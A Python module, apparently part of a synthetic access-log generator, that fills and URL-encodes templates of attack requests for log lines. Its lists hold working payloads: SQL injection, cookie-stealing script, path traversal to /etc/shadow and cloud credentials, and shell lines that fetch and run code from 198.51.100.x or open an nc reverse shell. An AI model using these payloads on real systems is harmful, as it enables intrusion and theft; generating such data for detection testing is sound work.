"""What the attacking clients send: own templates by kind of attack, filled and encoded in different ways.

A Python loop is right here: they are half a percent of the lines.
"""

import re
from urllib.parse import quote, quote_plus

from synthetic import words
from synthetic.draws import below, skewed, weighted
from synthetic.sessions import _PROBE_SHARES, PROBES

SQL = (
    "{n}' OR {m}={m}-- -",
    "{n} AND {m}={k}",
    "{n}' AND '{w}'='{w}",
    "{n} UNION ALL SELECT NULL,NULL,NULL-- {w}",
    "-{n}' UNION SELECT {m},user(),version(),{k}#",
    "{n}) ORDER BY {s}-- -",
    "{n}' AND SLEEP({s})-- {w}",
    "{n};WAITFOR DELAY '0:0:{s}'--",
    "{n}' AND (SELECT {m} FROM (SELECT COUNT(*),CONCAT({k},FLOOR(RAND(0)*2))x FROM orders GROUP BY x)a)-- -",
    "{n} AND EXTRACTVALUE({m},CONCAT(0x5c,(SELECT table_name FROM information_schema.tables LIMIT {s},1)))",
    "{n}' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT {s},1),{s},1))>{m}-- ",
    "{n}/**/union/**/select/**/{m},email,pass/**/from/**/customers",
    "{n} AND {m}=CAST((CHR(113)||(SELECT {k})) AS NUMERIC)",
    "{n}' || (SELECT '' FROM dual WHERE {m}={m}) || '",
    "{n}'; DROP TABLE {w};--",
)
SCRIPT = (
    "<script>alert({n})</script>",
    '"><script src=//{w}.example/{n}.js></script>',
    "'\"><img src=x onerror=alert({n})>",
    "<svg/onload=confirm({n})>",
    "javascript:alert(document.cookie+{n})",
    '" onmouseover="prompt({n})',
    "<iframe src=javascript:alert({n})>",
    "<body onpageshow=eval(atob('{w}{n}'))>",
    "</title><script>fetch('//{w}.example/?c='+document.cookie)</script>",
    "<details open ontoggle=alert({n})>",
)
PATH = (
    "../../../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "....//....//....//....//etc/shadow",
    "/etc/passwd\0.png",
    "../{w}/../../../../proc/self/environ",
    "php://filter/convert.base64-encode/resource=config{s}.php",
    "file:///etc/hosts?{n}",
    "../../../../var/log/apache2/access.log.{s}",
    "http://{w}.example/shell{n}.txt?",
    "../../wp-config.php.{w}",
)
SHELL = (
    "{n};id",
    "{n}|cat /etc/passwd",
    "$(sleep {s})",
    "`wget http://198.51.100.{s}/{w}.sh -O /tmp/{w}`",
    "127.0.0.1 && uname -a",
    "x;curl -s 198.51.100.{s}/{w}|sh",
    "{n}\nping -c {s} {w}.example",
    "a||nc 198.51.100.{s} {m} -e /bin/sh",
    "{{{{{n}*{k}}}}}",
    "${{jndi:ldap://{w}{n}.example/{k}}}",
    "system('id;{w}')",
    ";cd /tmp;wget 198.51.100.{s}/bins/{w};chmod 777 {w};./{w}",
)
SCAN = (
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-config.php.bak",
    "/backup.zip",
    "/db-{s}.sql.gz",
    "/phpinfo.php",
    "/phpmyadmin/index.php?lang=en",
    "/server-status",
    "/.aws/credentials",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale",
    "/actuator/env",
    "/wp-content/plugins/{w}-gallery/readme.txt",
    "/admin/config{s}.php",
    "/{w}.php.old",
    "/.DS_Store",
    "/solr/admin/info/system",
    "/HNAP1/",
    "/console/login/LoginForm.jsp",
    "/{w}{n}.bak",
    "/wp-includes/wlwmanifest.xml",
    "/xmlrpc.php?rsd",
    "/index.php?s=/Index/think{s}/app/invokefunction&function=phpinfo&vars[0]={n}",
)
WEB_SHELL = (
    "/wp-content/uploads/2026/10/{w}.php?cmd=id",
    "/uploads/{w}{s}.php?c=cat%20/etc/passwd",
    "/shell.php",
    "/wso{s}.php",
    "/c99.php?act=ls&d=%2Ftmp",
    "/images/{w}.php5?0=system&1=whoami",
    "/alfa{s}.php",
    "/wp-content/plugins/hello/{w}.php?pass={n}",
    "/tmp/up{n}.php?upload=1",
    "/.well-known/{w}.php?x=ls%20-la",
)
LOGIN = ("/account/login", "/wp-login.php", "/administrator/index.php", "/xmlrpc.php", "/admin/login?next=%2F")
PAGES = (  # what visitors use too
    "/search?q=",
    "/c/sale/?price=",
    "/api/v2/stock?store=3&sku=",
    "/api/v2/suggest?q=",
    "/c/living/?sort=",
    "/shop/oak-bench-red-40.html?variant=",
)
TOOLS = (
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{s})",
    "python-requests/2.31.0",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "curl/8.5.0",
    "Go-http-client/1.1",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "Wget/1.21.3",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "-",
    "() {{ :;}}; /bin/bash -c 'id {n}'",
    "${{jndi:ldap://{w}.example/{n}}}",
)
_LISTS = dict(zip(PROBES, (SQL, SCRIPT, PATH, SHELL, SCAN, WEB_SHELL, LOGIN), strict=True))


def attack_columns(draws, lines):
    """Method, target, status, size, referrer and agent of each attacking line, as lists of texts."""
    session, key = lines.session.astype("int64"), lines.session.astype("int64") << 20 | lines.step
    probes = weighted(draws("probe", session), _PROBE_SHARES)
    probes[session < len(PROBES)] = session[session < len(PROBES)]  # every kind is there, in the smallest log too
    numbers = zip(
        probes.tolist(),
        below(draws("tool", session), 1000).tolist(),
        below(draws("template", key), 1 << 30).tolist(),
        below(draws("fill", key), 1 << 30).tolist(),
        below(draws("answer", key), 1 << 30).tolist(),
        skewed(draws("browser", session), len(words.AGENTS), 2).tolist(),
        strict=True,
    )
    rows = [_attack(*row) for row in numbers]
    return tuple(map(list, zip(*rows, strict=True)))


def _attack(probe, tool, template, fill, answer, browser):
    name = PROBES[probe]
    texts = _LISTS[name]
    values = {
        "n": fill % 9973,
        "m": fill // 7 % 9000 + 10,
        "k": fill // 11 % 9999,
        "s": fill // 13 % 15 + 1,
        "w": words.NOUNS[fill // 17 % 40] + words.COLOURS[fill // 19 % 15][:3],
    }
    text = texts[template % len(texts)].format(**values)
    referrer = words.HOST + "/" if tool % 5 == 0 else "-"
    agent = words.AGENTS[browser] if tool % 3 == 0 else TOOLS[tool % len(TOOLS)].format(**values)
    if name == "login":
        status = (200, 302, 403, 200, 429)[answer % 5]
        return "POST", text, status, 3000 + answer % 40, referrer, agent
    if name in ("scan", "web-shell"):
        status = (404, 404, 404, 403, 404, 200, 301)[answer % 7]
        return ("GET", "HEAD", "POST")[answer // 7 % 9 // 7], text, status, 400 + answer % 900, referrer, agent
    target = PAGES[(tool + fill // 23 % 2) % len(PAGES)] + _encoded(text, answer)
    status = (200, 200, 500, 404, 302, 400)[answer % 6]
    return "GET", target, status, 500 + answer % 30_000, referrer, agent


def _encoded(text, answer):
    """The payload as tools send it: fully escaped, as a form does, twice, in part, or with letters in changing case."""
    way = answer // 6 % 12
    if way < 5:
        return quote(text, safe="")
    if way < 7:
        return quote_plus(text, safe="*()'")
    if way == 7:
        return quote(quote(text, safe=""), safe="")
    if way == 8:
        return quote(re.sub("[a-z]", lambda found: found[0].upper() if found.start() % 2 else found[0], text), safe="")
    if way == 9:
        return "".join(f"%{byte:02X}" for byte in text.encode())
    # As sent by programs that escape only what they must; Apache writes the quote and the backslash escaped.
    return quote(text, safe="'()<>;,|$`{}:/=*#!@&+\\\"").replace("\\", "\\\\").replace('"', '\\"')
